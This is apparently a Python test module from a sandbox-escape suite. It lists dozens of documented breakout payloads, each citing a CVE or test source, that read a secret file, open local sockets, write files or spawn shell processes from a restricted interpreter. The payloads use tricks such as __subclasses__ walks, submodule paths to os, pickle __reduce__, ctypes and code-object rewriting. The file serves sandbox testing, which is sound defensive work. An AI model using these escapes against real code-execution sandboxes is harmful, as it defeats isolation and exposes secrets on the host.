"""What plain Python reaches: builtins, imports, classes, libraries as they are.

The scope of programs has none of it. All of these are tried with the scope off, as in runtimes that
hand their programs an interpreter, so that they meet the kernel.
"""

from __future__ import annotations

from escapes.attack import FROM_DISK, Attack, Goal, layers

_OPEN = layers('scope seccomp landlock rlimits')
_MARK = "'echo x > ' + folder + '/started'"

_READS = {
    'numpy.fromfile': (
        "say(np.fromfile(secret_path, 'u1').tobytes().decode())",
        'Agenta CVE-2026-27952',
    ),
    'numpy.loadtxt': ('say(str(np.loadtxt(secret_path, dtype=str)))', 'Agenta CVE-2026-27952'),
    'numpy.genfromtxt': (
        'say(str(np.genfromtxt(secret_path, dtype=str)))',
        'Agenta CVE-2026-27952',
    ),
    'numpy DataSource': (
        'say(np.lib.npyio.DataSource(folder).open(secret_path).read())',
        'Agenta CVE-2026-27952',
    ),
    'open in the scope': ('say(open(secret_path).read())', 'Code as Policies: open was reachable'),
    'import os': (
        'import os\nsay(os.popen("cat " + secret_path).read())',
        'RestrictedPython test_imports',
    ),
    'import builtins': (
        'import builtins as b\nsay(b.open(secret_path).read())',
        'smolagents test_vulnerability_builtins',
    ),
    'import pathlib': (
        'from pathlib import Path\nsay(Path(secret_path).read_text())',
        'smolagents DANGEROUS_MODULES',
    ),
    'import io': ('import io\nsay(io.open(secret_path).read())', 'smolagents DANGEROUS_MODULES'),
    'import shutil': (
        """
        import shutil, io
        out = io.StringIO()
        shutil.copyfileobj(open(secret_path), out)
        say(out.getvalue())
        """,
        'smolagents DANGEROUS_MODULES',
    ),
    'import of a planted module': (
        'import sys\nsys.path.append(folder)\nimport planted\nsay(planted.secret)',
        'monty mount tests, files planted in a shared folder',
    ),
    'runpy': (
        "import runpy\nsay(runpy.run_path(folder + '/planted.py')['secret'])",
        'pyjail folklore',
    ),
    'fileinput': (
        "import fileinput\nsay(''.join(fileinput.input(secret_path)))",
        'pyjail folklore',
    ),
    'with': (
        'with open(secret_path) as file:\n    say(file.read())',
        'RestrictedPython test_with_stmt',
    ),
    'eval': ("eval('say(open(secret_path).read())')", 'RestrictedPython test_eval_exec'),
    'exec': ("exec('say(open(secret_path).read())')", 'RestrictedPython test_eval_exec'),
    'compile': (
        "eval(compile('say(open(secret_path).read())', 'x', 'eval'))",
        'smolagents DANGEROUS_FUNCTIONS',
    ),
    'getattr with an assembled name': (
        "b = getattr(say, '_' * 2 + 'builtins' + '_' * 2)\nsay(b['open'](secret_path).read())",
        "Code as Policies: getattr(x, '_' * 2 + ...)",
    ),
    'vars': ("say(vars(np)['fromfile'](secret_path, 'u1').tobytes().decode())", 'pyjail folklore'),
    'globals': (
        "b = globals()['__builtins__']\nsay(b['open'](secret_path).read())",
        'smolagents DANGEROUS_FUNCTIONS',
    ),
    'a subclass of str': (
        """
        class Name(str):
            def startswith(self, *_): return False
        kind = getattr((), Name('__class__'))
        found = [c for c in kind.__base__.__subclasses__() if c.__name__ == '_wrap_close']
        say(found[0].__init__.__globals__['fdopen'](found[0].__init__.__globals__['open'](
            secret_path, 0)).read())
        """,
        'RestrictedPython test_Guards, SAFER_GETATTR_BREAKOUT',
    ),
    'string.Formatter': (
        """
        import string
        inner, _ = string.Formatter().get_field('0.__globals__', (say,), {})
        say(inner['sys'].modules['builtins'].open(secret_path).read())
        """,
        'RestrictedPython CVE-2026-76825',
    ),
    'operator.attrgetter': (
        """
        import operator
        inner = operator.attrgetter('__globals__')(say)
        say(inner['sys'].modules['builtins'].open(secret_path).read())
        """,
        'RestrictedPython pull request 330',
    ),
    'operator.methodcaller': (
        """
        import operator
        found = operator.methodcaller('__subclasses__')(().__class__.__base__)
        inner = [c for c in found if c.__name__ == '_wrap_close'][0].__init__.__globals__
        say(inner['fdopen'](inner['open'](secret_path, 0)).read())
        """,
        'RestrictedPython pull request 330',
    ),
    'random._os': (
        'import random\nsay(random._os.popen("cat " + secret_path).read())',
        'smolagents CVE-2025-5120',
    ),
    'queue.threading._sys': (
        """
        import queue
        os = queue.threading._sys.modules['os']
        say(os.read(os.open(secret_path, 0), 99).decode())
        """,
        'smolagents CVE-2025-5120',
    ),
    'doctest.inspect.os': (
        'import doctest\nsay(doctest.inspect.os.popen("cat " + secret_path).read())',
        'smolagents test_vulnerability_via_submodules',
    ),
    'asyncio.base_events.events.subprocess': (
        """
        import asyncio
        run = asyncio.base_events.events.subprocess.check_output
        say(run(['cat', secret_path]).decode())
        """,
        'smolagents test_vulnerability_via_submodules',
    ),
    'warnings.sys': (
        """
        import warnings
        sys = list(map(getattr, [warnings], ['sys']))[0]
        say(sys.modules['builtins'].open(secret_path).read())
        """,
        'smolagents test_vulnerability_via_submodules_through_indirect_attribute_access',
    ),
    'functools.partial over getattr': (
        """
        import functools, warnings
        sys = list(map(functools.partial(getattr, warnings), ['sys']))[0]
        say(sys.modules['builtins'].open(secret_path).read())
        """,
        'smolagents test_vulnerability_via_submodules_through_indirect_attribute_access',
    ),
    'importlib': (
        "import importlib\nsay(importlib.import_module('io').open(secret_path).read())",
        'smolagents test_vulnerability_via_importlib',
    ),
    'numpy.ma.core.inspect': (
        "say(np.ma.core.inspect.sys.modules['builtins'].open(secret_path).read())",
        'Agenta CVE-2026-27952',
    ),
    'numpy.f2py': (
        'import numpy.f2py\nsay(np.f2py.os.popen("cat " + secret_path).read())',
        'Agenta CVE-2026-27952',
    ),
    'numpy.ctypeslib': (
        """
        import numpy.ctypeslib
        libc = np.ctypeslib.ctypes.CDLL(None)
        fd = libc.open(secret_path.encode(), 0)
        text = np.ctypeslib.ctypes.create_string_buffer(99)
        libc.read(fd, text, 99)
        say(text.value.decode())
        """,
        'Agenta CVE-2026-27952',
    ),
    'shapely.lib': (
        'say(shapely.lib.__loader__.get_data(secret_path).decode())',
        'Agenta CVE-2026-27952',
    ),
    'pickled array': (
        """
        import pickle, io
        class Bomb:
            def __reduce__(self): return (eval, (f'open({secret_path!r}).read()',))
        file = io.BytesIO()
        np.save(file, np.array([Bomb()], dtype=object), allow_pickle=True)
        file.seek(0)
        say(str(np.load(file, allow_pickle=True)))
        """,
        'smolagents CVE-2025-14931',
    ),
    'marshalled code': (
        """
        import marshal
        code = marshal.dumps(compile('say(open(secret_path).read())', 'x', 'exec'))
        exec(marshal.loads(code))
        """,
        'pyjail folklore',
    ),
    'code that is put together': (
        """
        def f(): return print
        text = f.__code__.replace(co_names=('open',))
        say(type(f)(text, globals())()(secret_path).read())
        """,
        'pyjail folklore',
    ),
    '__build_class__ with a metaclass': (
        """
        class Meta(type):
            def __getitem__(cls, path): return open(path).read()
        class Reader(metaclass=Meta): pass
        say(Reader[secret_path])
        """,
        'RestrictedPython test_classdef',
    ),
    '__del__ at the end': (
        """
        class Late:
            def __del__(self): say(open(secret_path).read())
        late = Late()
        del late
        """,
        'smolagents issue 2395',
    ),
    '__eq__ of a value': (
        """
        class Odd:
            def __eq__(self, other): return bool(say(open(secret_path).read()))
        Odd() in [1]
        """,
        'smolagents issue 2395',
    ),
    'breakpoint': (
        """
        import sys
        sys.breakpointhook = lambda: say(open(secret_path).read())
        breakpoint()
        """,
        'RestrictedPython test_breakpoint',
    ),
    'global statement': (
        """
        def f():
            global words
            words = open(secret_path).read()
        f()
        say(words)
        """,
        'RestrictedPython test_global_local',
    ),
    'ctypes': (
        """
        import ctypes
        libc = ctypes.CDLL(None)
        text = ctypes.create_string_buffer(99)
        libc.read(libc.open(secret_path.encode(), 0), text, 99)
        say(text.value.decode())
        """,
        'smolagents issue 2094',
    ),
}

_CONTACTS = {
    'urllib': (
        """
        import urllib.request
        try:
            urllib.request.urlopen(f'http://127.0.0.1:{tcp_port}/', timeout=0.05)
        except OSError:
            pass
        """,
        'smolagents CVE-2026-2654',
    ),
    'http.client': (
        """
        import http.client
        way = http.client.HTTPConnection('127.0.0.1', tcp_port)
        way.request('GET', '/')
        """,
        'smolagents CVE-2026-2654',
    ),
    'numpy DataSource of an address': (
        """
        import socket
        socket.setdefaulttimeout(0.05)
        try:
            np.lib.npyio.DataSource(None).open(f'http://127.0.0.1:{tcp_port}/x')
        except OSError:
            pass
        """,
        'smolagents CVE-2026-2654',
    ),
    'import socket': (
        "import socket\nsocket.create_connection(('127.0.0.1', tcp_port))",
        'smolagents DANGEROUS_MODULES',
    ),
    'multiprocessing.connection': (
        """
        import socket
        from multiprocessing.connection import SocketClient
        SocketClient(('127.0.0.1', tcp_port))
        """,
        'smolagents DANGEROUS_MODULES',
    ),
    'asyncio': (
        """
        import asyncio
        asyncio.run(asyncio.open_connection('127.0.0.1', tcp_port))
        """,
        'sandlock test_asyncio',
    ),
    'smtplib': (
        """
        import smtplib
        try:
            smtplib.SMTP('127.0.0.1', tcp_port, timeout=0.05)
        except OSError:
            pass
        """,
        'smolagents CVE-2026-2654',
    ),
}
_PROCESSES = {
    'import os': (f'import os\nos.system({_MARK})', 'smolagents test_vulnerability_import'),
    'import posix': (f'import posix\nposix.system({_MARK})', 'smolagents DANGEROUS_FUNCTIONS'),
    'import subprocess': (
        f"import subprocess\nsubprocess.run(['sh', '-c', {_MARK}])",
        'smolagents DANGEROUS_MODULES',
    ),
    'import multiprocessing': (
        f"""
        import multiprocessing, os
        way = multiprocessing.get_context('fork').Process(target=os.system, args=({_MARK},))
        way.start()
        way.join()
        """,
        'smolagents DANGEROUS_MODULES',
    ),
    'import pty': (
        f"""
        import pty, os
        pid, fd = pty.fork()
        if pid == 0: os.execv('/bin/sh', ['sh', '-c', {_MARK}])
        os.wait()
        """,
        'smolagents DANGEROUS_MODULES',
    ),
    'sys.modules': (
        f"import sys\nsys.modules['os'].system({_MARK})",
        'smolagents test_vulnerability_via_sys',
    ),
    'sys._getframe().f_builtins': (
        f"import sys\nsys._getframe().f_builtins['__import__']('os').system({_MARK})",
        'smolagents test_vulnerability_builtins_via_sys',
    ),
    'concurrent.futures': (
        f"""
        import os
        from concurrent.futures import ProcessPoolExecutor
        from multiprocessing import get_context
        with ProcessPoolExecutor(1, get_context('fork')) as pool: pool.submit(os.system, {_MARK})
        """,
        'sandlock test_resource',
    ),
    'pickle': (
        f"""
        import pickle
        class Bomb:
            def __reduce__(self):
                import os
                return (os.system, ({_MARK},))
        pickle.loads(pickle.dumps(Bomb()))
        """,
        'smolagents CVE-2025-14931',
    ),
    'webbrowser': (
        f"""
        import webbrowser
        open(folder + '/call', 'w').write('#!/bin/sh\\n' + {_MARK} + '\\n')
        import os
        os.chmod(folder + '/call', 0o755)
        webbrowser.GenericBrowser([folder + '/call']).open('x')
        """,
        'pyjail folklore',
    ),
}
_WRITES = {
    'ndarray.tofile': ("np.zeros(3).tofile(folder + '/a')", 'Agenta CVE-2026-27952'),
    'lock of multiprocessing': (
        "import _multiprocessing\n_multiprocessing.SemLock(0, 1, 1, f'/{nonce}', False)",
        'locks of multiprocessing',
    ),
}
_GOALS = {
    Goal.READ_FILE: _READS,
    Goal.WRITE_FILE: _WRITES,
    Goal.SOCKET: _CONTACTS,
    Goal.PROCESS: _PROCESSES,
}

ATTACKS = [
    Attack(f'{goal}: {name}', goal, _OPEN, '', text, origin, FROM_DISK)
    for goal, attempts in _GOALS.items()
    for name, (text, origin) in attempts.items()
]
